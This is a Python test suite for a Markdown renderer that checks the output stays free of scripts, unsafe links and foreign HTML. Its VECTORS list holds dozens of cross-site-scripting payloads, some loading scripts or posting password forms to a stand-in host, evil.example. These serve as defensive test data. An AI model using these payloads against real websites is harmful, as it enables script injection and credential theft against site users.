"""Markdown: what counts, what is text, what is refused, and that no script reaches a page."""

import re
import time
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.errors import Refusal
from core.markdown import MOST_CHARACTERS, as_blocks, as_html, check_text, problems_in
from core.prose import Block, Heading, Listing, Paragraph, Quotation, Run, Table, words_of

XHTML = "{http://www.w3.org/1999/xhtml}"
ELEMENTS = {"h2", "h3", "h4", "h5", "h6", "p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "a", "div"}
ELEMENTS |= {"table", "caption", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {"class", "href", "rel", "start", "scope", "id", "tabindex", "role", "aria-labelledby"}
MARKS = st.sampled_from([*"#*_-+>|[]()!<>&;:`\\/=\"' \n\t", "1. ", "| a |\n|---|\n", "javascript:", "http://x", "<b>"])
NASTY = st.lists(MARKS | st.text(max_size=6), max_size=60).map("".join)
VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\x6aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/people/sign-out)",
    '[x](http://a.example/"onmouseover="alert(1))',
    '[x](http://a.example "onmouseover=alert(1)")',
    "[x](<http://a.example/ onmouseover=alert(1)>)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "![x](http://evil.example/pixel.gif)",
    "<javascript:alert(1)>",
    "<http://a.example/'onclick='alert(1)>",
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "Table: <script>alert(1)</script>\n| a |\n|---|\n| b |",
    "# <svg onload=alert(1)>",
    "- <details open ontoggle=alert(1)>",
    "> <body onload=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</div></main><script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "1. <object data=javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "{{ config }}{% raw %}<script>alert(1)</script>",
)
HARMLESS = {
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\\x6aavascript:alert(1))",
    '[x](http://a.example/"onmouseover="alert(1))',
    '[x](http://a.example "onmouseover=alert(1)")',
    "[x](<http://a.example/ onmouseover=alert(1)>)",
    "<http://a.example/'onclick='alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
}


def tree_of(text: str, name: str = "text") -> Element:
    root: Element = html5lib.parse(str(as_html(text, name=name)), treebuilder="etree")
    return root


def drawn(text: str) -> str:
    return str(as_html(text)).removeprefix('<div class="app-prose">').removesuffix("</div>")


def said(element: Element) -> str:
    return "".join(element.itertext())


def runs_in(blocks: list[Block] | tuple[Block, ...]) -> list[Run]:
    found: list[Run] = []
    for block in blocks:
        match block:
            case Heading() | Paragraph():
                found += block.runs
            case Listing():
                found += [run for item in block.items for run in runs_in(item)]
            case Quotation():
                found += runs_in(block.blocks)
            case Table():
                found += [run for row in (block.head, *block.rows) for cell in row for run in cell]
    return found


def check_harmless(text: str) -> None:
    body = next(tree_of(text).iter(f"{XHTML}body"))
    for element in list(body.iter())[1:]:
        assert element.tag.removeprefix(XHTML) in ELEMENTS, text
        assert set(element.keys()) <= ATTRIBUTES, text
        assert element.get("href", "http:").startswith(("http:", "https:", "mailto:")), text
    assert len(list(body)) == 1, f"{text!r} closes the element it stands in"


@pytest.mark.parametrize("text", VECTORS)
def test_no_script_reaches_the_page(text: str) -> None:
    check_harmless(text)


@settings(max_examples=300, deadline=None)
@given(NASTY)
def test_no_text_makes_a_foreign_element(text: str) -> None:
    check_harmless(text)


@settings(deadline=None)
@given(NASTY)
def test_the_page_says_what_the_values_say(text: str) -> None:
    shown = re.sub(r"\s", "", said(tree_of(text)))
    place = 0
    for run in runs_in(as_blocks(text)):
        words = re.sub(r"\s", "", run.text)
        place = shown.index(words, place) + len(words)


@settings(deadline=None)
@given(st.text(st.characters(categories=["L", "N"]), min_size=1).filter(lambda text: not text.startswith("Table")))
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert words_of(runs_in(as_blocks(text))) == text


@pytest.mark.parametrize("text", [*(v for v in VECTORS if v not in HARMLESS), "<b>bold</b>", "a <!-- note --> b"])
def test_refuses_html_scripts_and_pictures(text: str) -> None:
    assert problems_in(text)


def test_what_is_text_is_no_problem() -> None:
    for text in (
        "fewer than <5 cases & £3",
        "a < b > c",
        "`code`",
        "---",
        "    indented",
        "[1] see below",
        "e.g. 3*4*5",
    ):
        assert problems_in(text) == [], text


def test_problems_name_their_line_in_order_and_once_each() -> None:
    text = "# One\n\nSee [x](/here).\nAnd <b>that</b>.\n\n![picture](http://x.example/a.png)\n[y](javascript:go())"
    assert problems_in(text) == [
        "Line 3 has a link that leads neither to a web nor to an e-mail address. Give its whole address.",
        "Line 4 holds HTML. Write it in words, or as Markdown.",
        "Line 6 holds a picture. No picture stands in a text: attach its file.",
        "Line 7 holds a script. Take it out.",
    ]


def test_refuses_a_patient_identifier_and_does_not_repeat_it() -> None:
    found = problems_in("One line.\nSeen: 943 476 5919.")
    sentence = (
        "a number that passes the NHS number check. Take it out: nothing that identifies a patient may be kept here."
    )
    assert found == [f"Line 2 holds {sentence}"]
    assert problems_in("943\n476 5919")[0].startswith("The text holds, over more than one line, a number that passes")


def test_refuses_what_is_too_long_too_deep_or_too_wide() -> None:
    assert problems_in("x" * MOST_CHARACTERS) == []
    assert problems_in("x" * (MOST_CHARACTERS + 1)) == [
        "The text has 50,001 characters, and at most 50,000 are kept. Shorten it."
    ]
    nested = "\n".join(f"{'  ' * depth}- {depth}" for depth in range(4))
    assert problems_in(nested) == []
    assert problems_in(f"{nested}\n        - 4") == [
        "Line 5 begins a list or quotation in 4 others. Bring it further out."
    ]
    assert problems_in("# a\n## b\n### c") == []
    assert problems_in("# a\n## b\n### c\n#### d") == ["The text has headings of 4 levels, and at most 3 may be used."]
    for columns, most in ((12, []), (13, ["The table in line 3 has 13 columns, and at most 12 fit. Divide it."])):
        table = "|" + "a|" * columns + "\n|" + "-|" * columns
        assert problems_in(f"Text.\n\n{table}") == most


def test_refuses_a_text_with_all_that_is_wrong_in_it() -> None:
    check_text("# All is well")
    with pytest.raises(Refusal) as refused:
        check_text("<b>\n\n![x](y)")
    assert str(refused.value) == (
        "Line 1 holds HTML. Write it in words, or as Markdown. "
        "Line 3 holds a picture. No picture stands in a text: attach its file."
    )


@pytest.mark.parametrize("piece", [">", "- ", "[", "![", "*_", "|a", "<a ", "](", "&", "\\", "1. ", "<!--", "**x* "])
def test_a_text_made_to_be_slow_is_answered(piece: str) -> None:
    text = (piece * MOST_CHARACTERS)[:MOST_CHARACTERS]
    begun = time.process_time()
    problems_in(text)
    assert time.process_time() - begun < 20, "thirty times what it takes on a slow machine"


def test_headings_begin_where_the_page_says_and_leave_out_no_level() -> None:
    text = "### Aims\n##### Deeper\n### Scope\n# Top\n"
    assert re.findall(r"<(h\d)[^>]*>(.*?)<", drawn(text)) == [
        ("h3", "Aims"),
        ("h4", "Deeper"),
        ("h3", "Scope"),
        ("h3", "Top"),
    ]
    assert re.findall(r"<(h\d)", str(as_html("# a\n## b\n### c\n#### d", first_level=4))) == ["h4", "h5", "h6", "h6"]
    assert "<h" not in drawn("> # quoted\n\n- # in a list")


def test_words_are_dressed_and_a_new_line_is_a_new_line() -> None:
    assert drawn("At **least *two*** visits\na *week*.") == (
        "<p>At <strong>least </strong><strong><em>two</em></strong> visits<br>a <em>week</em>.</p>"
    )
    assert drawn("a\\\nb  \nc") == "<p>a<br>b<br>c</p>"


def test_links_lead_to_web_and_e_mail_addresses_alone() -> None:
    rel = 'rel="noopener noreferrer"'
    assert drawn("[NICE](https://nice.example/a?b=1&c=2)") == (
        f'<p><a href="https://nice.example/a?b=1&amp;c=2" {rel}>NICE</a></p>'
    )
    assert f'<a href="mailto:team@pct.example" {rel}>the team</a>' in drawn("[the team](mailto:team@pct.example)")
    assert drawn("[home](/)") == "<p>home</p>"
    assert f'<a href="http://a.example" {rel}>http://a.example</a>' in drawn("[](http://a.example)")


def test_pictures_become_their_words() -> None:
    assert drawn("Before ![a map](http://x.example/map.png) after") == "<p>Before a map after</p>"


def test_lists_keep_their_order_and_what_is_in_them() -> None:
    assert drawn("3. three\n   - dot\n4. four") == (
        '<ol class="nhsuk-list nhsuk-list--number" start="3"><li>three'
        '<ul class="nhsuk-list nhsuk-list--bullet"><li>dot</li></ul></li><li>four</li></ol>'
    )


def test_tables_are_captioned_by_the_paragraph_above_or_numbered() -> None:
    table = "| Month | Contacts |\n|---|--:|\n| April | 1,200<br>in all |\n"
    blocks = as_blocks(f"Table: Activity\n{table}\nText.\n\n{table}", caption="Referral, table")
    first, text, second = blocks
    assert isinstance(first, Table)
    assert isinstance(second, Table)
    assert isinstance(text, Paragraph)
    assert (first.caption, second.caption) == ("Referral, table 1: Activity", "Referral, table 2")
    assert first.is_right == (False, True)
    assert words_of(first.rows[0][1]) == "1,200\nin all"


def test_tables_have_a_caption_a_name_and_headings_for_screen_readers() -> None:
    tree = tree_of("| Month | |\n|---|--:|\n| April | 1 |\n\nx\n\n| a |\n|---|\n| b |", name="aims")
    ids = [str(e.get("id")) for e in tree.iter() if e.get("id")]
    assert ids == ["aims-table-1-caption", "aims-table-2-caption"]
    regions = [e for e in tree.iter(f"{XHTML}div") if e.get("role") == "region"]
    assert [region.get("aria-labelledby") for region in regions] == ids
    assert [said(th) for th in tree.iter(f"{XHTML}th")] == ["Month", "a"], "a heading without words is none"


def test_what_no_file_may_hold_becomes_a_space() -> None:
    assert as_blocks("a\x00b\x0bc\x1f\td") == [Paragraph(runs=(Run(text="a b c  d"),))]
    assert as_blocks("one\r\ntwo\rthree") == as_blocks("one\ntwo\nthree")


def test_a_hash_may_break_and_nothing_else_does() -> None:
    digest = "0123456789abcdef" * 4
    drawn = str(as_html(f"| Hash |\n|---|\n| {digest} |\n\nA{digest} <b>"))
    assert f"<td>{'<wbr>'.join(['0123456789abcdef'] * 4)}</td>" in drawn
    assert drawn.count("<wbr>") == 3
    assert "&lt;b&gt;" in drawn
